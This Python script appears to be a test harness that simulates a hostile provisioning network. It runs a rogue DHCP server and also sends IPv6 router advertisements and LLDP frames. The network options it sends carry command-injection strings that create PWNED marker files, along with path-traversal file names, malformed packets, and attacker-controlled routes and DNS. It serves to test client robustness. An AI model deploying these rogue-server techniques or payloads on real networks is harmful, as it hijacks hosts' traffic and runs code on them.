#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""hostile_net.py IFACE ADDRESS BOOT-PORT [plain]: a provisioning network in bad hands.

Answers DHCP: firmware and iPXE are booted as the README says; the operating
system's client gets a working address and, with it, everything that some
initramfs or other has been fooled with, each option with a mark of its own
(PWNED-dhcp and its number). A malformed twin goes before every answer. With
`plain` there is no twin, and every option is one that a client may well take:
servers for time and names, a host name, domains, a time zone. Router
advertisements and LLDP frames are sent all the time. Says what it did, one
line each, on standard output.
"""
import ipaddress
import socket
import struct
import sys
import threading
import time

iface, address, port = sys.argv[1], sys.argv[2], sys.argv[3]
plain = sys.argv[4:] == ["plain"]
client, evil = address.rsplit(".", 1)[0] + ".77", address.rsplit(".", 1)[0] + ".66"
ip = socket.inet_aton


def opt(code, value):
    """An option; a longer one in pieces (RFC 3396)."""
    return b"".join(bytes([code, len(value[i:i + 255])]) + value[i:i + 255] for i in range(0, len(value), 255))


def shell(name):
    """Short, as all of it must fit one frame: DHCP clients reassemble nothing."""
    return f"x$(>/run/PWNED-dhcp{name})\n`>/run/PWNED-dhcp{name}`".encode()


def evil_option(code, before=b""):
    return opt(code, before + shell(code))


def labels(text):
    return b"".join(bytes([len(p)]) + p for p in [text[i:i + 63] for i in range(0, len(text), 63)]) + b"\0"


def hostile():
    o = opt(3, ip(address)) + opt(6, ip(evil)) + opt(28, ip("255.255.255.255")) + opt(42, ip(evil))
    # the parent itself by way of the attacker, and a default route
    o += opt(121, b"\x20" + ip(address) + ip(evil) + b"\x00" + ip(evil)) + opt(249, b"\x08\x0a" + ip(evil))
    o += opt(26, struct.pack(">H", 68)) + opt(33, ip("10.66.0.1") + ip(evil)) + opt(220, bytes(range(32)) + b"\n\0\xff")
    o += opt(119, labels(shell(119))) + evil_option(17, b"iscsi:@" + evil.encode() + b"::::")
    o += evil_option(67, b"../../init") + evil_option(18, b"/etc/") + evil_option(203, b"nfs:") + evil_option(210, b"../")
    for code in (12, 15, 14, 40, 43, 64, 66, 100, 101, 114, 209, 224, 252):
        o += evil_option(code)
    return o


def plausible():
    o = opt(3, ip(address)) + opt(6, ip(evil)) + opt(28, ip("10.0.2.255")) + opt(42, ip(evil)) + opt(120, b"\1" + ip(evil))
    o += opt(12, b"pwned-host") + opt(15, b"pwned.example") + opt(101, b"Asia/Tokyo")
    return o + opt(119, labels(b"pwned-search")[:-1] + labels(b"example"))


def answer(q, kind, options, yiaddr, filename=b""):
    head = struct.pack(">BBBBIHH4s4s4s4s16s64s128s", 2, 1, 6, 0, q["xid"], 0, 0x8000, bytes(4), ip(yiaddr), ip(address),
                       bytes(4), q["chaddr"], b"", filename)
    o = opt(53, bytes([kind])) + opt(54, ip(address)) + opt(51, struct.pack(">I", 3600)) + opt(1, ip("255.255.255.0"))
    b = head + b"\x63\x82\x53\x63" + o + options + b"\xff"
    assert len(b) <= 1472, len(b)
    return b


def parse(b):
    if len(b) < 240 or b[0] != 1 or b[236:240] != b"\x63\x82\x53\x63":
        return None
    q, at = {"xid": struct.unpack_from(">I", b, 4)[0], "chaddr": b[28:44], "options": {}}, 240
    while at + 1 < len(b) and b[at] != 255:
        if b[at] == 0:
            at += 1
            continue
        q["options"][b[at]] = b[at + 2:at + 2 + b[at + 1]]
        at += 2 + b[at + 1]
    return q


def gave(o):
    """The numbers of options."""
    while o:
        yield o[0]
        o = o[2 + o[1]:]


def dhcp(s):
    said = set()
    while True:
        q = parse(s.recv(4096))
        if not q or q["options"].get(53, b"\0")[0] not in (1, 3):
            continue
        if q["options"].get(60, b"").startswith(b"HTTPClient"):
            continue
        o, kind = q["options"], 2 if q["options"][53][0] == 1 else 5
        if b"iPXE" in o.get(77, b""):
            who, more, name = "ipxe", opt(3, ip(address)), f"http://{address}:{port}/ipxe?mac=${{net0/mac:hexhyp}}&uuid=${{uuid}}"
            name = name.encode()
        elif o.get(60, b"").startswith(b"PXEClient"):
            who, more, name = "firmware", opt(66, address.encode()) + opt(67, b"snponly.efi\0"), b"snponly.efi"
        else:
            who, more, name = "system", plausible() if plain else hostile(), b"" if plain else b"../" + shell("file")
        if who == "system" and not plain:
            # the same with an option that is longer than the packet, and with empty ones and no end
            s.sendto(answer(q, kind, more, client, name)[:-1] + b"\x0f\xffshort", ("255.255.255.255", 68))
            s.sendto(answer(q, kind, more + b"\x0c\x00\x0f\x00\x11\x00\x77\x00" + bytes(40), client, name)[:-20], ("255.255.255.255", 68))
        s.sendto(answer(q, kind, more, client, name), ("255.255.255.255", 68))
        if (who, kind) not in said:
            said.add((who, kind))
            print(f"{'offered' if kind == 2 else 'acknowledged'} {who} asked={sorted(o.get(55, b''))} gave={sorted(gave(more))}", flush=True)


def checksum(b):
    s = sum(struct.unpack(f">{len(b) // 2}H", b))
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff


def advertisement(mac):
    src, dst = ipaddress.ip_address("fe80::66").packed, ipaddress.ip_address("ff02::1").packed
    net = ipaddress.ip_address("fd66::").packed
    dns = ipaddress.ip_address("fd66::66").packed
    name = labels(b"PWNED-ra$(touch /run/PWNED-ra)")
    name += bytes(-len(name) % 8)
    o = struct.pack(">BBBBIII16s", 3, 4, 64, 0xC0, 86400, 86400, 0, net) + b"\x01\x01" + mac
    o += struct.pack(">BBHI", 5, 1, 0, 1280) + struct.pack(">BBHI16s", 25, 3, 0, 9000, dns)
    o += struct.pack(">BBHI", 31, 1 + len(name) // 8, 0, 9000) + name
    # a route to everything, preferred
    o += struct.pack(">BBBBI", 24, 1, 0, 0x08, 9000)
    # managed and other: ask DHCPv6 for an address and the rest
    body = struct.pack(">BBHBBHII", 134, 0, 0, 64, 0xC8, 9000, 0, 0) + o
    c = checksum(src + dst + struct.pack(">II", len(body), 58) + body + bytes(len(body) % 2))
    body = body[:2] + struct.pack(">H", c) + body[4:]
    head = b"\x60\0\0\0" + struct.pack(">HBB", len(body), 58, 255) + src + dst
    return b"\x33\x33\0\0\0\1" + mac + b"\x86\xdd" + head + body


def lldp(mac):
    def tlv(kind, value):
        return struct.pack(">H", kind << 9 | len(value)) + value

    text = b"PWNED-lldp$(touch /run/PWNED-lldp)"
    b = tlv(1, b"\4" + mac) + tlv(2, b"\5" + text) + tlv(3, b"\0\x78") + tlv(5, text) + tlv(6, text * 10) + tlv(127, b"\0\x80\xc2\1\0\x2a" + text)
    return b"\x01\x80\xc2\0\0\x0e" + mac + b"\x88\xcc" + b + b"\0\0" + b"\xff" * 20


def frames():
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((iface, 0))
    mac = b"\x52\x54\0\x66\x66\x66"
    while True:
        s.send(advertisement(mac))
        s.send(lldp(mac))
        time.sleep(0.5)


def main():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, iface.encode())
    s.bind(("", 67))
    threading.Thread(target=frames, daemon=True).start()
    print("ready", flush=True)
    dhcp(s)


main()
